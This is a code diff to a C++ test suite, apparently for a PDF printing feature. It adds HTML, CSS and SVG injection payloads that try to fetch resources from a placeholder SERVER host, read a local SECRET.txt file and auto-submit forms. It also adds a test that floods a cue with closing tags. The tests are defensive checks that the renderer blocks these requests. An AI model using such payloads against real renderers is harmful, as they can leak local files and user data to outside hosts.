@@ -196,12 +196,53 @@ INSTANTIATE_TEST_SUITE_P (
         Attack {
             "reports",
             "<meta http-equiv='Content-Security-Policy-Report-Only' content=\"default-src 'none'; report-uri SERVER/\">" },
+        Attack {
+            "addressesInAStyle",
+            "<style>p::before{content:url(SERVER/a)} p{cursor:url(SERVER/b),auto;list-style:url(SERVER/c);"
+            "border-image:url(SERVER/d) 1;mask:url(SERVER/e);filter:url(SERVER/f#x);clip-path:url(SERVER/g#x);"
+            "shape-outside:url(SERVER/h);background:image-set('SERVER/i' 1x)} @namespace 'SERVER/j';</style>"
+            "<p>x</p>" },
+        Attack { "styleOfALeadingSheet",
+                 "<?xml-stylesheet href='SERVER/a.css'?><style>@import url('SECRET.txt')"
+                 " supports(display:block) print;</style>" },
+        Attack {
+            "drawingInAnAddress",
+            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
+            "<image href='SERVER/a.png'/><foreignObject><iframe src='SECRET.txt'/></foreignObject></svg>\">" },
+        Attack { "drawingsParts",
+                 "<svg><filter id=f><feImage href='SERVER/a.png'/></filter><rect width=9 height=9 "
+                 "filter='url(#f)'/><script href='SERVER/b.js'/><set attributeName=href "
+                 "to='SERVER/c.png'/><tref href='SECRET.txt'/></svg>" },
+        Attack {
+            "formThatSendsItself",
+            "<form id=f action='SERVER/' method=post><input name=a value=b autofocus onfocus='f.submit()'>"
+            "<button type=submit formaction='SERVER/x' autofocus>x</button></form>"
+            "<iframe name=n></iframe><form target=n action='SERVER/y'><input type=image src='SERVER/z'></form>" },
+        Attack { "otherFrames",
+                 "<fencedframe src='SERVER/a'></fencedframe><portal src='SERVER/b'></portal>"
+                 "<embed src='SERVER/c' type='text/html'><applet archive='SERVER/d'></applet>" },
         Attack { "unclosed", "<!-- <div><table><tr><td><p>"
                              "-->" }),
     [] (const auto& attack) { return std::string (attack.param.name); });
 
 namespace
 {
+
+TEST_F (PrintTest, aFloodOfEndsTearsNoOtherCueAway)
+{
+    std::string flood;
+
+    for (int i = 0; i < 5000; ++i)
+        flood += "</table></div></p></body></html>";
+
+    settings->events = events ({ { .cueNumber = "A1", .words = "Before" },
+                                 { .cueNumber = "A2", .words = flood },
+                                 { .cueNumber = "A3", .words = "After" } });
+    EXPECT_EQ (print(), "");
+    const PrintedPDF printed (path());
+    EXPECT_THAT (printed.text(), HasSubstr ("Before"));
+    EXPECT_THAT (printed.text(), HasSubstr ("After"));
+}
 
 TEST_F (PrintTest, anIconsNameOpensNoFile)
 {
